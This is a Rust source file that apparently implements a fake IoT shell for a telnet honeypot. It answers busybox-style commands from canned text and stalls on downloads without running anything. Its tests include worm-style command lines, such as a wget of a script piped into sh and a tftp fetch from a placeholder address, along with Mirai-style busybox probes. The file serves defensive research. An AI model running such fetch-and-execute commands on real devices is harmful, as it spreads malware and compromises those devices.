//! A shell's answers, made from the command line alone: nothing is run, opened or fetched.

use alloc::vec::Vec;

/// Whose shell it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Shell {
    /// The one of busybox, with its applets.
    Busybox,
    /// The one of Windows.
    Cmd,
    /// The one of a Linux distribution.
    Posix,
}

/// What becomes of a command line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Course {
    /// It comes to its end, and the next may come.
    Ends,
    /// It has begun to fetch something and never ends.
    Stalls,
}

/// The most bytes of one answer; the rest is cut off.
pub(crate) const LONGEST_ANSWER: usize = 512;

/// The most commands on one line that are answered.
const MOST_COMMANDS: usize = 8;

/// What [`LONGEST_ANSWER`] holds of a device's mounts: what worms look for is a place to write.
const MOUNTS: &str = "rootfs / rootfs rw 0 0\r\n/dev/root / squashfs ro,relatime 0 0\r\n\
    proc /proc proc rw,relatime 0 0\r\nsysfs /sys sysfs rw,relatime 0 0\r\n\
    tmpfs /dev tmpfs rw,relatime 0 0\r\ntmpfs /tmp tmpfs rw,relatime 0 0\r\n\
    /dev/mtdblock3 /mnt/mtd jffs2 rw,relatime 0 0\r\n";

/// The processes that a device has.
const PROCESSES: &str = concat!(
    "  PID USER       VSZ STAT COMMAND\r\n",
    "    1 root      1996 S    init\r\n",
    "    2 root         0 SW   [kthreadd]\r\n",
    "  412 root      1992 S    telnetd\r\n",
    "  438 root     20312 S    /usr/bin/main\r\n",
    "  671 root      1996 S    -sh\r\n",
    "  702 root      1992 R    ps\r\n",
);

/// What a whole line is answered, appended to `out`, and whether another may follow.
pub(crate) fn answer(shell: Shell, line: &[u8], out: &mut Vec<u8>) -> Course {
    let start = out.len();
    let mut course = Course::Ends;
    let commands = line.split(|byte| matches!(byte, b';' | b'|' | b'&'));
    for command in
        commands.map(<[u8]>::trim_ascii).filter(|one| !one.is_empty()).take(MOST_COMMANDS)
    {
        course = one(shell, command, out);
        if course == Course::Stalls {
            break;
        }
    }
    out.truncate(start + LONGEST_ANSWER);
    course
}

/// What one command is answered.
fn one(shell: Shell, command: &[u8], out: &mut Vec<u8>) -> Course {
    let (mut name, mut rest) = first_word(command);
    if shell == Shell::Cmd {
        say(&[b"'", name, b"' is not recognized as an internal or external command,\r\n"], out);
        say(&[b"operable program or batch file.\r\n"], out);
        return Course::Ends;
    }
    let asked = base(name);
    let is_applet = asked == b"busybox";
    if is_applet {
        (name, rest) = first_word(rest);
    }
    match base(name) {
        b"" => say(&[b"BusyBox v1.19.4 multi-call binary.\r\n"], out),
        b"cat" if rest.starts_with(b"/proc/mounts") => say(&[MOUNTS.as_bytes()], out),
        b"cat" => {
            let (file, _) = first_word(rest);
            say(&[b"cat: can't open '", file, b"': No such file or directory\r\n"], out);
        }
        b"echo" => echo(rest, out),
        b"ps" => say(&[PROCESSES.as_bytes()], out),
        b"mount" => say(&[MOUNTS.as_bytes()], out),
        b"curl" | b"ftpget" | b"tftp" => return Course::Stalls,
        b"wget" => {
            let host = host(rest);
            say(&[b"Connecting to ", host, b" (", host, b":80)\r\n"], out);
            return Course::Stalls;
        }
        b"cd" | b"chmod" | b"cp" | b"dd" | b"enable" | b"export" | b"history" | b"iptables"
        | b"kill" | b"killall" | b"linuxshell" | b"mkdir" | b"mv" | b"rm" | b"sh" | b"shell"
        | b"sleep" | b"su" | b"system" | b"ulimit" | b"umask" | b"unset" => {}
        b"id" => say(&[b"uid=0(root) gid=0(root)\r\n"], out),
        b"whoami" => say(&[b"root\r\n"], out),
        b"pwd" => say(&[b"/root\r\n"], out),
        b"uname" => say(&[b"Linux\r\n"], out),
        _ if is_applet => say(&[name, b": applet not found\r\n"], out),
        _ => say(&[b"sh: ", name, b": not found\r\n"], out),
    }
    Course::Ends
}

/// The text behind `echo` as it prints it, unless it goes into a file.
fn echo(rest: &[u8], out: &mut Vec<u8>) {
    if rest.contains(&b'>') {
        return;
    }
    let (flags, text) = match first_word(rest) {
        (word, text) if word.first() == Some(&b'-') && word.len() <= 3 => (word, text),
        _ => (&b""[..], rest),
    };
    let decodes = flags.contains(&b'e');
    let mut bytes = text.iter().copied().filter(|byte| !matches!(byte, b'"' | b'\'')).peekable();
    while let Some(byte) = bytes.next() {
        if byte != b'\\' || !decodes {
            out.push(byte);
            continue;
        }
        match bytes.next() {
            Some(b'x') => {
                out.push(number(&mut bytes, 16, 2));
            }
            Some(b'0') => out.push(number(&mut bytes, 8, 3)),
            Some(b'n') => out.extend_from_slice(b"\r\n"),
            Some(b'r') => out.push(b'\r'),
            Some(b't') => out.push(b'\t'),
            Some(other) => out.push(other),
            None => {}
        }
    }
    if !flags.contains(&b'n') {
        out.extend_from_slice(b"\r\n");
    }
}

/// The number in at most `most` digits that come next.
fn number(
    bytes: &mut core::iter::Peekable<impl Iterator<Item = u8>>,
    base: u32,
    most: usize,
) -> u8 {
    let mut number = 0_u32;
    for _ in 0..most {
        let Some(digit) = bytes.peek().and_then(|&byte| char::from(byte).to_digit(base)) else {
            break;
        };
        number = number * base + digit;
        bytes.next();
    }
    (number & 0xFF) as u8
}

/// The host that an address in `words` names.
fn host(words: &[u8]) -> &[u8] {
    let mut addresses = words.split(u8::is_ascii_whitespace).filter(|word| !word.starts_with(b"-"));
    let address = addresses.find(|word| !word.is_empty()).unwrap_or(b"");
    let address = address.strip_prefix(b"http://").unwrap_or(address);
    let end = address.iter().position(|byte| matches!(byte, b'/' | b':'));
    let host = &address[..end.unwrap_or(address.len())];
    &host[..host.len().min(64)]
}

/// The first word, and what stands behind it.
fn first_word(text: &[u8]) -> (&[u8], &[u8]) {
    let end = text.iter().position(u8::is_ascii_whitespace).unwrap_or(text.len());
    let (word, rest) = text.split_at(end);
    (word, rest.trim_ascii())
}

/// A program's name without its directories.
fn base(name: &[u8]) -> &[u8] {
    name.rsplit(|&byte| byte == b'/').next().unwrap_or(name)
}

/// Appends what can be shown of `parts`: what a client sent may hold anything.
fn say(parts: &[&[u8]], out: &mut Vec<u8>) {
    let shown = |byte: &u8| matches!(byte, b' '..=b'~' | b'\r' | b'\n');
    out.extend(parts.iter().flat_map(|part| part.iter().copied().filter(shown)));
}

/// For the fuzzer and its replayed corpus: whatever the line, the answer has its bound, and no
/// telnet command is said back.
#[doc(hidden)]
pub fn check_answers_of_the_shell_are_bounded(line: &[u8]) {
    for shell in [Shell::Busybox, Shell::Cmd, Shell::Posix] {
        let mut out = Vec::new();
        answer(shell, line, &mut out);
        assert!(out.len() <= LONGEST_ANSWER, "{} bytes", out.len());
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    extern crate std;
    use std::string::{String, ToString as _};

    fn answered(line: &str) -> (String, Course) {
        let mut out = Vec::new();
        let course = answer(Shell::Busybox, line.as_bytes(), &mut out);
        (out.escape_ascii().to_string(), course)
    }

    #[test]
    fn worms_get_what_they_look_for() {
        for (line, wanted) in [
            ("/bin/busybox MIRAI", r"MIRAI: applet not found\r\n"),
            ("enable", ""),
            ("sh", ""),
            (r"echo -e '\x6b\x61\x6d\x69'", r"kami\r\n"),
            (r"/bin/busybox echo -ne '\x7f\0105LF'", r"\x7fELF"),
            (r"echo -ne '\x45' > /dev/.x", ""),
            ("frob", r"sh: frob: not found\r\n"),
            ("cd /tmp; /bin/busybox ECCHI", r"ECCHI: applet not found\r\n"),
        ] {
            assert_eq!(answered(line), (wanted.into(), Course::Ends), "{line}");
        }
        assert_eq!(answered("ps").0.matches(r"\r\n").count(), 7);
        assert!(answered("cat /proc/mounts").0.contains("tmpfs /tmp"));
        assert!(
            answered("/bin/busybox ps; /bin/busybox X").0.ends_with(r"X: applet not found\r\n")
        );
    }

    #[test]
    fn nothing_is_ever_fetched_to_its_end() {
        for line in ["wget http://192.0.2.1/x.sh -O- | sh", "cd /tmp; tftp -g -r x 192.0.2.1"] {
            assert_eq!(answered(line).1, Course::Stalls, "{line}");
        }
        assert_eq!(
            answered("wget http://192.0.2.1:81/x").0,
            r"Connecting to 192.0.2.1 (192.0.2.1:80)\r\n"
        );
    }

    proptest! {
        #[test]
        fn answers_are_bounded(line in prop::collection::vec(any::<u8>(), 0..400)) {
            check_answers_of_the_shell_are_bounded(&line);
        }

        #[test]
        fn answers_to_text_are_bounded(line in "(echo -e |cat |/bin/busybox |wget )?[ -~]{0,256}") {
            check_answers_of_the_shell_are_bounded(line.as_bytes());
        }
    }
}
